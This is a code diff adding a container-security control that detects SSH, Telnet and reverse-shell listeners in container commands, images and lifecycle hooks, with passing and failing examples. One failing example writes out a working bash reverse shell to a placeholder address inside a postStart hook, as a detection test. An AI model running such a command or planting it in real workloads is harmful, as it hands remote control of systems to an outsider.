@@ -1,0 +1,98 @@
+// Programs in a container that hand out a shell over the network.
+import { z } from 'zod';
+import type { Examples } from '../../examples/example.ts';
+import { deployment, pod, taskDefinition } from '../../examples/workloads.ts';
+import type { At } from '../../model/at.ts';
+import { defineControl, evidence, failIfAny, unknown } from '../../model/control.ts';
+import type { Image } from '../../model/platform.ts';
+import type { Evidence, Judgement } from '../../model/verdict.ts';
+import { type Container, ownContainers } from '../../model/workload.ts';
+import { commandsOf } from '../../text/command.ts';
+import { shellListeners } from '../../text/listeners.ts';
+
+export const noRemoteShellDaemon = defineControl({
+  id: 'immutability/no-remote-shell-daemon',
+  title: 'Containers run no SSH, Telnet or other remote shell',
+  severity: 'high',
+  stage: 'stable',
+  judges: ['workload', 'image'],
+  parameters: z.object({}),
+  references: { nist: ['4.1.2', '4.4.5'], attack: ['T1021.004', 'T1133', 'T1059.004'] },
+  why: 'A shell daemon is a second way in beside the program, with keys and users of its own; what is done through it was never built, reviewed or logged. A reverse shell is somebody already in.',
+  fix: 'Take the daemon out of image and command. Look into a container through its logs; change it by building another.',
+  allows: [
+    'clients (`ssh host`, `scp`) and port checks (`nc -z`)',
+    'options that only check or print (`sshd -t`)',
+    'sockets on local files',
+  ],
+  response: 'stop-workload',
+  judge: (subject) =>
+    subject.kind === 'image' ? ofImage(subject) : failIfAny(ownContainers(subject).flatMap(ofContainer)),
+});
+
+function ofContainer(container: Container): Evidence[] {
+  const { entryPoint, command, hooks, name } = container;
+  const place = command.value === null ? entryPoint : command;
+  return [
+    ...daemons(entryPoint.value, command.value, place, `container ${name}`),
+    ...hooks.flatMap((hook) =>
+      hook.command === null
+        ? []
+        : daemons(null, hook.command.value, hook.command, `container ${name} (${hook.kind})`),
+    ),
+  ];
+}
+
+function ofImage({ config }: Image): Judgement {
+  if (config === null) return unknown('the configuration of the image is not known');
+  const { entryPoint, command } = config;
+  const place = command.value.length === 0 ? entryPoint : command;
+  return failIfAny(daemons(entryPoint.value, command.value, place, 'the image'));
+}
+
+function daemons(
+  entryPoint: readonly string[] | null,
+  command: readonly string[] | null,
+  place: At<unknown>,
+  who: string,
+): Evidence[] {
+  return shellListeners(commandsOf(entryPoint, command)).map(({ what, message }) =>
+    evidence(place.path, what, null, `${who} ${message}`),
+  );
+}
+
+export const examples = (): Examples => ({
+  fails: [
+    {
+      says: 'sshd as the program',
+      given: taskDefinition({ container: { command: ['/usr/sbin/sshd', '-D'] } }),
+      at: 'containerDefinitions[0].command',
+    },
+    {
+      says: 'sshd beside the program',
+      given: deployment({
+        container: { command: ['sh', '-c', 'service ssh start && node server.js'], args: undefined },
+      }),
+      at: 'spec.template.spec.containers[0].command',
+      alsoFails: ['input-validation/no-inline-code'],
+    },
+    {
+      says: 'a reverse shell in a hook',
+      given: pod({
+        container: {
+          lifecycle: {
+            postStart: { exec: { command: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'] } },
+          },
+        },
+      }),
+      at: 'spec.containers[0].lifecycle.postStart.exec.command',
+    },
+  ],
+  passes: [
+    {
+      says: 'a port check with nc',
+      given: pod({ container: { readinessProbe: { exec: { command: ['nc', '-z', 'localhost', '8080'] } } } }),
+    },
+    { says: 'an SSH client', given: taskDefinition({ container: { command: ['ssh', 'backup.acme.test'] } }) },
+  ],
+});
